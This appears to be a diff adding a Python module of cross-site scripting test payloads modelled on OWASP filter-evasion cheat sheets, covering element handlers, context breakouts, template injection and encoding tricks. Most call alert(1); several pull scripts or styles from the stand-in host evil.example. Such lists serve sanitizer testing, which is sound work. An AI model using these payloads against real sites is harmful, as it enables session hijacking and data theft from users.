@@ -1,0 +1,71 @@
+"""Strings that have run as code on pages which took them for text; each calls alert where it does.
+
+Our own collection after OWASP's cheat sheets on filter evasion and on DOM-based scripting: every way
+out of text, attributes, scripts, addresses, styles, templates and Markdown that we know of.
+"""
+
+from typing import Final
+
+PAYLOADS: Final = (
+    # plain elements and handlers
+    "<script>alert(1)</script>",
+    "<ScRiPt/x>alert(1)</sCrIpT >",
+    "<script src=//evil.example/x.js></script>",
+    "<script type=module>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<img/src='x'/onerror='alert(1)'>",
+    "<img src=x onerror=alert(1)//",
+    "<svg onload=alert(1)>",
+    "<svg><script>alert&#40;1&#41;</script></svg>",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<body onload=alert(1)>",
+    "<iframe src=javascript:alert(1)></iframe>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
+    "<object data=javascript:alert(1)></object>",
+    "<embed src=javascript:alert(1)>",
+    "<video><source onerror=alert(1)></video>",
+    "<audio src=x onerror=alert(1)>",
+    "<input autofocus onfocus=alert(1)>",
+    "<details open ontoggle=alert(1)>",
+    "<marquee onstart=alert(1)>",
+    "<form><button formaction=javascript:alert(1)>go</button></form>",
+    "<a href=javascript:alert(1)>read on</a>",
+    "<a href='jav&#x09;ascript:alert(1)'>read on</a>",
+    "<base href=//evil.example/>",
+    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
+    "<link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css';</style>",
+    "<template><img src=x onerror=alert(1)></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    # out of where a text may stand
+    "\"><script>alert(1)</script>",
+    "'><img src=x onerror=alert(1)>",
+    "\" autofocus onfocus=alert(1) x=\"",
+    "' onmouseover='alert(1)",
+    "`onmouseover=alert(1)",
+    "</textarea><script>alert(1)</script>",
+    "</title><script>alert(1)</script>",
+    "</script><script>alert(1)</script>",
+    "--><script>alert(1)</script><!--",
+    "]]><script>alert(1)</script>",
+    "\";alert(1);//",
+    "';alert(1);//",
+    "\\';alert(1);//",
+    "${alert(1)}",
+    "{{7*7}}{{constructor.constructor('alert(1)')()}}",
+    "{% raw %}{{ config }}{% endraw %}",
+    "javascript:alert(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "[read on](javascript:alert(1))",
+    "![x](x\"onerror=\"alert(1))",
+    # entities and encodings
+    "&lt;script&gt;alert(1)&lt;/script&gt;",
+    "&#60;script&#62;alert(1)&#60;/script&#62;",
+    "%3Cscript%3Ealert(1)%3C/script%3E",
+    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
+    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
+    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
+    "<img src=x\u2028onerror=alert(1)>",
+    "\u202e<script>alert(1)</script>",
+)  # fmt: skip
